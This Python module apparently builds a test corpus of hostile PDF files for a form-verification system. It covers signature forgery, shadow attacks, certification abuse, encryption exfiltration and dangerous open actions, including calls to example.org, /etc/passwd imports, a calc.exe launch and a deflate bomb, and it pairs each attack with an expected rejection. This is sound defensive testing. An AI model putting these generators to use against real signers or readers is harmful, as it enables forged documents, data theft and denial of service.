"""The published attacks on signed, certified, encrypted and unsigned PDF files, each by its name.

Signatures: universal signature forgery, incremental saving, signature wrapping (Mladenov and
others, 2019). Shadow attacks: hide, replace, hide and replace (Mainka and others, 2021).
Certification: evil annotation, sneaky signature (Rohlmann and others, 2021). Encryption: direct
exfiltration, gadgets (Müller and others, 2019). Dangerous paths (Müller and others, 2021).
"""

from __future__ import annotations

import functools
import io
import re
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import certified
import changing
import filling
import hostile
import paling
import pikepdf
import printing
import spoiled_tables
from changing import changed
from filling import opened, saved
from kinds import PERSON, REJECTED, filled, form, other_author
from kinds_signed import certificate
from pikepdf import Array, Dictionary, Name, Stream, String
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields as sign_fields
from pyhanko.sign import signers
from spoiled_tables import updated

from generator.returns.evidence import Outcome

WIDE = re.compile(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)\s*\]")


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack, as it is known."""

    family: str
    name: str
    make: Callable[[], bytes]

    @property
    def verdict(self) -> tuple[Outcome, str]:
        """What becomes of it, and one of the codes that lead to that."""
        return VERDICTS[self.family, self.name]


@functools.cache
def signed() -> bytes:
    """A form that is signed as it should be, and would be accepted."""
    return certificate()


def with_range(text: bytes) -> bytes:
    """Write another range of signed bytes, in as many bytes."""
    pdf = signed()
    found = WIDE.search(pdf)
    assert found
    return pdf[: found.start()] + text.ljust(len(found[0])) + pdf[found.end() :]


def with_contents(change: Callable[[bytes], bytes]) -> bytes:
    pdf = signed()
    found = re.search(rb"/Contents <([0-9a-fA-F]+)>", pdf)
    assert found
    new = change(found[0])
    return pdf[: found.start()] + new.ljust(len(found[0])) + pdf[found.end() :]


def without_range() -> bytes:
    return with_range(b"/ByteRangeX null")


def field_number(pdf: bytes, name: str = "date_01") -> int:
    with pikepdf.open(io.BytesIO(pdf)) as document:
        return changing.widget(document, name).objgen[0]


def signed_update(content: bytes, *, table: bool = True, end: bool = True) -> bytes:
    """Append a new state of the date's field to a signed file, well or badly."""
    pdf = signed()
    number = field_number(pdf)
    out = bytearray(pdf)
    place = len(out)
    out += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    if table:
        start = len(out)
        back = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
        root = re.findall(rb"/Root (\d+)", pdf)[-1]
        out += b"xref\n%d 1\n%010d 00000 n \n" % (number, place)
        out += b"trailer\n<</Size 900/Root %b 0 R/Prev %d>>\n" % (root, back)
        out += b"startxref\n%d\n" % start
    return bytes(out) + (b"%%EOF\n" if end else b"")


DATED = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(date_01)/Rect[145 441.8 479.7 459.2]/F 4/V(never)>>"


def wrapped() -> bytes:
    """Move the second signed part behind, and put other objects between."""
    pdf = signed()
    found = WIDE.search(pdf)
    assert found
    first, length, second, rest = (int(each) for each in found.groups())
    other = b"\n%d 0 obj\n%b\nendobj\n" % (field_number(pdf), DATED)
    moved = b"/ByteRange [%d %d %d %d]" % (first, length, second + len(other), rest)
    grown = pdf[:second] + other + pdf[second:]
    return grown[: found.start()] + moved.ljust(len(found[0])) + grown[found.end() :]


def _sign(document: pikepdf.Pdf) -> bytes:
    return certified.sign(spoiled_tables.flat(saved(document)), [("signature_01", form().names[0])])


def shadow_hidden() -> bytes:
    """Sign what a picture covers, then take the picture away."""
    document = opened(filled())
    page = document.pages[0]
    cover = filling.embedded(document, filling.scribbled(60, 12))
    name = page.add_resource(cover, Name.XObject)
    page.contents_add(b"q 400 0 0 20 90 600 cm %b Do Q" % str(name).encode())
    covered = _sign(document)
    with pikepdf.open(io.BytesIO(covered)) as again:
        number = again.pages[0].Resources.XObject[str(name)].objgen[0]
    empty = b"<</Type/XObject/Subtype/Form/BBox[0 0 1 1]/Length 0>>\nstream\n\nendstream"
    return updated(covered, {number: empty})


def shadow_replaced() -> bytes:
    """Sign with a font, then exchange its letters by an update."""
    document = opened(filled())
    font = Dictionary(
        Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, Encoding=Dictionary()
    )  # fmt: skip
    look = changing.widget(document, "date_01").AP.N
    look.Resources.Font.Shadow = document.make_indirect(font)
    pdf = _sign(document)
    with pikepdf.open(io.BytesIO(pdf)) as again:
        number = changing.widget(again, "date_01").AP.N.Resources.Font.Shadow.objgen[0]
    other = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding<</Differences[48/one/zero]>>>>"
    return updated(pdf, {number: other})


def shadow_values() -> bytes:
    """Show a value in the field that is not the one that it holds, then sign."""
    document = opened(filled())
    changing.widget(document, "date_01").V = String("2031-06-02")
    return _sign(document)


def shadow_hidden_and_replaced() -> bytes:
    """Sign a file that holds a second document, then let an update lead to that one."""
    document = opened(filled())
    other = Dictionary(Type=Name.Catalog, Pages=document.Root.Pages, Lang=String("xx"))
    document.Root.AcroForm.Shadow = document.make_indirect(other)
    pdf = _sign(document)
    with pikepdf.open(io.BytesIO(pdf)) as again:
        number = again.Root.AcroForm.Shadow.objgen[0]
    return updated(pdf, {990: b"null"}, root=number)


def inert_document() -> bytes:
    """Sign a file that holds a second document, and wait."""
    document = opened(filled())
    other = Dictionary(Type=Name.Catalog, Pages=document.Root.Pages, Lang=String("xx"))
    document.trailer["/Shadow"] = document.make_indirect(other)
    return _sign(document)


def certify(change: str) -> bytes:
    """Certify a form, so that notes are allowed, and add something afterwards."""
    metadata = signers.PdfSignatureMetadata(
        field_name="signature_01", certify=True,
        docmdp_permissions=sign_fields.MDPPerm.ANNOTATE,
    )  # fmt: skip
    signer = certified.signer_of(form().names[0])
    out = signers.PdfSigner(metadata, signer=signer).sign_pdf(
        IncrementalPdfFileWriter(io.BytesIO(filled()))
    )
    pdf = out.getvalue()
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    if change == "signature":
        place = sign_fields.SigFieldSpec("sneaky", box=(90, 500, 500, 700), on_page=0)
        sign_fields.append_signature_field(writer, place)
        metadata = signers.PdfSignatureMetadata(field_name="sneaky", reason="I do not agree")
        return signers.PdfSigner(metadata, signer=signer).sign_pdf(writer).getvalue()
    return certified.annotate_later(pdf, change)


def exfiltrating(*, partial: bool) -> bytes:
    """A file that is encrypted, in part or whole, and sends what it holds when it is opened."""
    document = opened(filled())
    document.Root.OpenAction = Dictionary(
        S=Name.URI, URI=String("https://example.org/"), IsMap=True
    )
    out = io.BytesIO()
    allowed = pikepdf.Encryption(user="", owner="owner", R=6, metadata=not partial)
    document.save(out, encryption=allowed)
    return out.getvalue()


def cbc_gadget() -> bytes:
    """Change a block of what is encrypted without a check of its bytes."""
    out = io.BytesIO()
    opened(filled()).save(out, encryption=pikepdf.Encryption(user="", owner="owner", R=4))
    pdf = bytearray(out.getvalue())
    place = pdf.index(b"stream", len(pdf) // 2) + 30
    pdf[place] ^= 0xFF
    return bytes(pdf)


def on_opening(kind: str, **entries: object) -> Callable[[], bytes]:
    action = Dictionary(S=Name(f"/{kind}"), **entries)
    return functools.partial(changed, changing.on_catalog(OpenAction=action))


def loop_of_actions() -> bytes:
    document = opened(filled())
    first = document.make_indirect(Dictionary(S=Name.URI, URI=String("https://example.org/")))
    second = document.make_indirect(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=first))
    first.Next = second
    document.Root.OpenAction = first
    return saved(document)


def loop_of_bookmarks() -> bytes:
    document = opened(filled())
    item = document.make_indirect(Dictionary(Title=String("again")))
    item.Next = item
    document.Root.Outlines = document.make_indirect(Dictionary(First=item, Last=item, Count=1))
    return saved(document)


def loop_of_object_streams() -> bytes:
    content = b"<</Type/ObjStm/N 0/First 0/Length 0/Extends 940 0 R>>\nstream\n\nendstream"
    return updated(filled(), {940: content})


def loop_of_fields() -> bytes:
    document = opened(filled())
    field = changing.widget(document, "date_01")
    field.Parent = field
    return saved(document)


def loop_of_drawings() -> bytes:
    document = opened(filled())
    look = changing.widget(document, "date_01").AP.N
    look.Resources.XObject = Dictionary(X=look)
    look.write(look.read_bytes() + b" /X Do")
    return saved(document)


def deflate_bomb() -> bytes:
    document = opened(filled())
    data = zlib.compress(b" " * (200 << 20), 9)
    stream = Stream(document, data)
    stream.Filter = Name.FlateDecode
    document.Root.Data = document.make_indirect(stream)
    out = io.BytesIO()
    document.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def another_year() -> bytes:
    """Return the form of another paper the number of this one."""
    pdf = spoiled_tables.flat(filled("guessed"))
    return pdf.replace(b">zhang25ladder<", b">kim25g<")


VERDICTS: dict[tuple[str, str], tuple[Outcome, str]] = {
    ("universal signature forgery", "no contents"): (REJECTED, "signature-broken"),
    ("universal signature forgery", "empty contents"): (REJECTED, "signature-broken"),
    ("universal signature forgery", "contents of null"): (REJECTED, "signature-broken"),
    ("universal signature forgery", "contents of zeros"): (REJECTED, "signature-broken"),
    ("universal signature forgery", "no range"): (REJECTED, "signature-broken"),
    ("universal signature forgery", "range of null"): (REJECTED, "signature-broken"),
    ("universal signature forgery", "range of nothing"): (REJECTED, "signature-broken"),
    ("universal signature forgery", "range below zero"): (REJECTED, "signature-broken"),
    ("universal signature forgery", "range beyond the end"): (REJECTED, "signature-broken"),
    ("universal signature forgery", "range of one part"): (REJECTED, "signature-broken"),
    ("incremental saving", "with a table"): (REJECTED, "signature-changed"),
    ("incremental saving", "without a table"): (PERSON, "unexplained"),
    ("incremental saving", "without an end"): (REJECTED, "damaged"),
    ("incremental saving", "without a table and an end"): (REJECTED, "damaged"),
    ("incremental saving", "with page content"): (REJECTED, "terms-changed"),
    ("signature wrapping", "the second part moved"): (PERSON, "unexplained"),
    ("shadow attacks", "hide"): (REJECTED, "signature-changed"),
    ("shadow attacks", "replace a font"): (REJECTED, "signature-changed"),
    ("shadow attacks", "replace a value"): (PERSON, "date-unreadable"),
    ("shadow attacks", "hide and replace"): (REJECTED, "signature-broken"),
    ("shadow attacks", "hide and replace, not yet done"): (PERSON, "unexplained"),
    ("evil annotation", "a note"): (REJECTED, "signature-changed"),
    ("evil annotation", "a stamp"): (REJECTED, "signature-changed"),
    ("evil annotation", "a redaction"): (REJECTED, "signature-changed"),
    ("sneaky signature", "a field that covers terms"): (REJECTED, "terms-changed"),
    ("encryption", "direct exfiltration"): (PERSON, "unexplained"),
    ("encryption", "partial encryption"): (PERSON, "unexplained"),
    ("encryption", "gadgets"): (PERSON, "unexplained"),
    ("encryption", "with a password"): (REJECTED, "encrypted"),
    ("dangerous paths", "a loop of actions"): (PERSON, "unexplained"),
    ("dangerous paths", "a loop of bookmarks"): (PERSON, "unexplained"),
    ("dangerous paths", "a loop of streams of objects"): (PERSON, "unexplained"),
    ("dangerous paths", "a loop of fields"): (PERSON, "unexplained"),
    ("dangerous paths", "a loop of drawings"): (PERSON, "unexplained"),
    ("dangerous paths", "a loop of tables"): (PERSON, "unexplained"),
    ("dangerous paths", "a loop of pages"): (REJECTED, "damaged"),
    ("dangerous paths", "a deflate bomb"): (REJECTED, "too-much"),
    ("dangerous paths", "an address called"): (PERSON, "unexplained"),
    ("dangerous paths", "a form sent"): (REJECTED, "submit"),
    ("dangerous paths", "data fetched"): (REJECTED, "submit"),
    ("dangerous paths", "a file opened"): (REJECTED, "launch"),
    ("dangerous paths", "a file within opened"): (REJECTED, "launch"),
    ("dangerous paths", "a program started"): (REJECTED, "launch"),
    ("dangerous paths", "a script run"): (REJECTED, "script"),
    ("dangerous paths", "a stream kept in another file"): (REJECTED, "outside"),
    ("of our own", "one of two signers"): (PERSON, "signer-missing"),
    ("of our own", "two signers, the same person twice"): (PERSON, "name-other"),
    ("of our own", "the form of another paper under this id"): (PERSON, "unexplained"),
    ("of our own", "a signer who is no author"): (PERSON, "name-other"),
    ("of our own", "two kinds of tables"): (PERSON, "unexplained"),
    ("of our own", "a field twice, the other one later"): (PERSON, "unexplained"),
    ("of our own", "a field hidden in a stream of objects"): (PERSON, "unexplained"),
    ("of our own", "an end that points to the first state"): (PERSON, "unexplained"),
    ("of our own", "a loop of tables"): (PERSON, "unexplained"),
    ("of our own", "another catalog in an update"): (PERSON, "unexplained"),
    ("of our own", "a linearized file of another length"): (PERSON, "unexplained"),
    ("of our own", "a linearized file with another first page"): (PERSON, "unexplained"),
    ("of our own", "words before the beginning"): (PERSON, "unexplained"),
    ("of our own", "words behind the end"): (PERSON, "unexplained"),
    ("of our own", "an entry twice"): (PERSON, "unexplained"),
    ("of our own", "metadata with words beside them"): (PERSON, "unexplained"),
    ("of our own", "data that nothing refers to"): (PERSON, "unexplained"),
    ("of our own", "a file that is encrypted without a password"): (PERSON, "unexplained"),
    ("ink taken from words", "a line of half a point in white"): (PERSON, "terms-not-compared"),
    ("ink taken from words", "the same, printed again"): (PERSON, "terms-not-compared"),
    ("ink taken from words", "a slit"): (PERSON, "terms-not-compared"),
    ("ink taken from words", "dashes in white, as text"): (PERSON, "terms-not-compared"),
    ("ink taken from words", "a white veil of 20 %"): (PERSON, "terms-not-compared"),
    ("ink taken from words", "a veil over one word"): (PERSON, "terms-not-compared"),
}


def attacks_by_name() -> Iterator[Attack]:
    """Return all of them."""
    forged = functools.partial(Attack, "universal signature forgery")
    yield forged("no contents", lambda: with_contents(lambda old: b"/ContentsX <00>"))
    yield forged("empty contents", lambda: with_contents(lambda old: b"/Contents <>"))
    yield forged("contents of null", lambda: with_contents(lambda old: b"/Contents null"))
    yield forged("contents of zeros", lambda: with_contents(lambda old: b"/Contents <00>"))
    yield forged("no range", without_range)
    yield forged("range of null", lambda: with_range(b"/ByteRange null"))
    yield forged("range of nothing", lambda: with_range(b"/ByteRange [0 0 0 0]"))
    yield forged("range below zero", lambda: with_range(b"/ByteRange [0 -1 9 9]"))
    yield forged("range beyond the end", lambda: with_range(b"/ByteRange [0 9 9 999999999]"))
    yield forged("range of one part", lambda: with_range(b"/ByteRange [0 999]"))
    saving = functools.partial(Attack, "incremental saving")
    yield saving("with a table", lambda: signed_update(DATED))
    yield saving("without a table", lambda: signed_update(DATED, table=False))
    yield saving("without an end", lambda: signed_update(DATED, end=False))
    yield saving("without a table and an end", lambda: signed_update(DATED, table=False, end=False))
    yield saving(
        "with page content", lambda: certified.draw_later(signed(), b"q 90 600 300 2 re f Q")
    )  # fmt: skip
    yield Attack("signature wrapping", "the second part moved", wrapped)
    shadow = functools.partial(Attack, "shadow attacks")
    yield shadow("hide", shadow_hidden)
    yield shadow("replace a font", shadow_replaced)
    yield shadow("replace a value", shadow_values)
    yield shadow("hide and replace", shadow_hidden_and_replaced)
    yield shadow("hide and replace, not yet done", inert_document)
    yield Attack("evil annotation", "a note", lambda: certify("FreeText"))
    yield Attack("evil annotation", "a stamp", lambda: certify("Stamp"))
    yield Attack("evil annotation", "a redaction", lambda: certify("Redact"))
    yield Attack("sneaky signature", "a field that covers terms", lambda: certify("signature"))
    leak = functools.partial(Attack, "encryption")
    yield leak("direct exfiltration", lambda: exfiltrating(partial=False))
    yield leak("partial encryption", lambda: exfiltrating(partial=True))
    yield leak("gadgets", cbc_gadget)
    yield leak("with a password", lambda: hostile.encrypted("secret", "owner"))
    yield from _paths()
    yield from _others()
    taken = functools.partial(Attack, "ink taken from words")
    yield taken("a line of half a point in white", lambda: paling.line(filled(), 0.5))
    yield taken("the same, printed again", lambda: printing.by_pdfium(paling.line(filled(), 0.5)))
    yield taken("a slit", lambda: paling.slit(filled(), 0.4))
    yield taken("dashes in white, as text", lambda: paling.dashes(filled()))
    yield taken("a white veil of 20 %", lambda: paling.veil(filled(), 0.2))
    yield taken("a veil over one word", lambda: paling.veil(filled(), 0.1, words="not "))


def _paths() -> Iterator[Attack]:
    paths = functools.partial(Attack, "dangerous paths")
    for name, make in {
        "a loop of actions": loop_of_actions,
        "a loop of bookmarks": loop_of_bookmarks,
        "a loop of streams of objects": loop_of_object_streams,
        "a loop of fields": loop_of_fields,
        "a loop of drawings": loop_of_drawings,
        "a loop of tables": spoiled_tables.a_loop_of_tables,
        "a loop of pages": hostile.cyclic_pages,
        "a deflate bomb": deflate_bomb,
        "an address called": on_opening("URI", URI=String("https://example.org/")),
        "a form sent": on_opening("SubmitForm", F=String("https://example.org/")),
        "data fetched": on_opening("ImportData", F=String("/etc/passwd")),
        "a file opened": on_opening("GoToR", F=String("\\\\example.org\\share\\a.pdf"), D=0),
        "a file within opened": on_opening("GoToE", F=String("https://example.org/a.pdf"), D=0),
        "a program started": on_opening("Launch", F=String("calc.exe")),
        "a script run": on_opening("JavaScript", JS=String("this.saveAs('/tmp/a')")),
        "a stream kept in another file": functools.partial(
            changed,
            lambda document: changing.widget(document, "date_01").AP.N.update(
                {"/F": String("/etc/passwd")}
            ),
        ),
    }.items():
        yield paths(name, make)


def _others() -> Iterator[Attack]:
    other = functools.partial(Attack, "of our own")
    yield other("one of two signers", lambda: certificate("two", people=("Kiril Bangachev",)))
    yield other(
        "two signers, the same person twice",
        lambda: filled("two", name="Kiril Bangachev"),
    )
    yield other("the form of another paper under this id", another_year)
    yield other("a signer who is no author", lambda: other_author("guessed", "Somebody Else"))
    for name, make in spoiled_tables.TABLES.items():
        yield other(name, make)
